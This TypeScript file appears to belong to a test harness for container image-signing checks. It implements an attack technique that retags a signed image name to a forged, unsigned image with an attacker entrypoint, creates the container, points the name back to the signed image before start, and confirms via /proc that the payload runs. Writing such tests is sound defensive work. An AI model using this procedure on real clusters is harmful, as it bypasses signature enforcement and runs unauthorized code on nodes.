/**
 * Attack (T1525 Implant Internal Image, T1036.005 Masquerading): root on
 * the node, with the CRI socket, points a protected image's name at an
 * unsigned image made of the same layers but with its own entrypoint (the
 * config), creates the container (CRI builds the container's process from
 * that config), then points the name back at the signed image (a pull from
 * the registry, which the pull gate verifies) and starts the container. A
 * start check that looks the image up again by name sees only the signed
 * image; the container runs the attacker's entrypoint from verified layers.
 * Only binding the start to the image CRI created the container from (its
 * image ID) catches it.
 */
import { buildImage } from '../../images/index.ts';
import type { Technique } from '../technique.ts';
import { poll } from '../../wait.ts';
import { requirePayload } from './common.ts';
import { sideLoad } from './side-load-import.ts';
import { containerInitPid, tryStart } from './start.ts';

export const imageRetagBeforeStart: Technique = {
  name: 'image-retag-before-start',
  async run({ node, attack, workload, pods }) {
    const payload = requirePayload(attack);
    const ref = node.imageRef(workload.spec.image.repository, workload.spec.image.tag);
    const busybox = async () => node.readFile('/bin/busybox');
    // The signed image, pulled through CRI (and the pull gate, where there is one).
    await node.pushImage(workload.spec.image);
    await node.cri.pullImage(ref);
    const signedId = (await node.cri.imageStatus(ref))?.id;
    // The same layers, the attacker's entrypoint; no signature.
    const forged = await buildImage(
      { ...workload.spec.image, entrypoint: ['/bin/sh', '-c', 'while :; do sleep 1; done', payload], annotations: undefined },
      { busybox },
    );
    const evidence: Record<string, unknown> = { ref, signedImageId: signedId, forgedImageId: forged.manifest.config.digest, ...(await sideLoad(node, forged, ref, workload.spec.image.tag)) };

    const start = await tryStart(node, workload, pods, {
      beforeStart: async () => {
        // Created from the forged config; now the name goes back to the signed image before the start.
        await node.cri.pullImage(ref);
        const back = await poll(() => node.cri.imageStatus(ref), (image) => image?.id === signedId, { timeoutMs: 10_000, intervalMs: 100 });
        if (!back.ok) throw new Error(`CRI did not serve the signed ${ref} (${signedId}) again within 10000 ms`);
        evidence.nameAtStart = back.value?.id;
      },
    });
    if (!start.started) return { effect: false, reason: `the container did not start (${start.stage}): ${start.reason}`, evidence: { ...evidence, refusal: start.reason } };
    const { pid, state } = await containerInitPid(node, start.pod.containers[0]!.id);
    if (!pid) return { effect: false, reason: `the container started but is ${state}`, evidence };
    const cmdline = (await node.run(['cat', `/proc/${pid}/cmdline`])).stdout.toString().split('\0').filter(Boolean);
    evidence.cmdline = cmdline;
    return cmdline.includes(payload)
      ? { effect: true, reason: `the container runs the attacker's entrypoint (${cmdline.join(' ')}) although ${ref} names the signed image at start`, evidence }
      : { effect: false, reason: `the container runs the signed entrypoint (${cmdline.join(' ')})`, evidence };
  },
};
